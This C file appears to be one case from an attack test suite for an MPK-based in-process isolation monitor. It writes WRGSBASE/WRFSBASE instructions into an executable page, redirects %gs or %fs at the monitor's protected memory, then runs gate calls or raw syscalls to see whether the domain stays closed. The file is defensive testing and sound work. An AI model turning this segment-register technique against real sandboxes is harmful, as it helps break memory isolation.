/* attack
class: gate
aim: memory
expect: { mpk: contained }
source: cerberus
variants:
  - { args: [gs], tries: "%gs on the monitor's memory, then calls of every kind" }
  - { args: [fs], tries: "%fs on the monitor's memory, then calls of every kind" }
*/
/* Code that finds its data by a segment is led astray by whoever sets it. The monitor's gate writes through %gs before it opens its domain. */
#include "gates.h"
static const unsigned char set_gs_code[] = {0xf3, 0x48, 0x0f, 0xae, 0xdf, 0xc3}, set_fs_code[] = {0xf3, 0x48, 0x0f, 0xae, 0xd7, 0xc3};
static void (*sets)(uintptr_t);
static int fs;
static uintptr_t victim;

/* Whether calls with the segment there leave the domain open, or write there: the stand-in is written through the segment with open rights. */
static int calls_with_it(void) {
    if (!code) {
        set_rights(0);
        sets(victim);
        if (fs) __asm__ volatile("movq $1, %%fs:8" : : : "memory");
        else __asm__ volatile("movq $1, %%gs:8" : : : "memory");
    } else {
        sets(victim);
        /* Without libc, whose own data %fs leads to. */
        static const int numbers[] = {SYS_getppid, SYS_gettid, SYS_mprotect, SYS_rt_sigprocmask, SYS_prctl, SYS_close};
        for (unsigned i = 0; i < sizeof numbers / sizeof *numbers; i++) {
            long r;
            register long r10 __asm__("r10") = 0;
            __asm__ volatile("syscall" : "=a"(r) : "0"((long)numbers[i]), "D"(-1L), "S"(0L), "d"(0L), "r"(r10) : "rcx", "r11", "memory");
        }
    }
    trophy->rights = rights_now();
    (void)*(volatile unsigned char *)victim;
    trophy->open = 1;
    __asm__ volatile("mov $60, %eax\n xor %edi, %edi\n syscall");
    return 0;
}
int main(int argc, char **argv) {
    know_the_monitor();
    fs = argc > 1 && strcmp(argv[1], "fs") == 0;
    unsigned char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memcpy(page, fs ? set_fs_code : set_gs_code, 6);
    mprotect(page, 4096, PROT_READ | PROT_EXEC);
    sets = (void (*)(uintptr_t))page;
    for (int i = 0; i < target_count && i < 12 && !trophy->open; i++) {
        if (!targets[i].writable) continue;
        victim = targets[i].from;
        in_child(calls_with_it);
    }
    verdict(trophy->open);
}
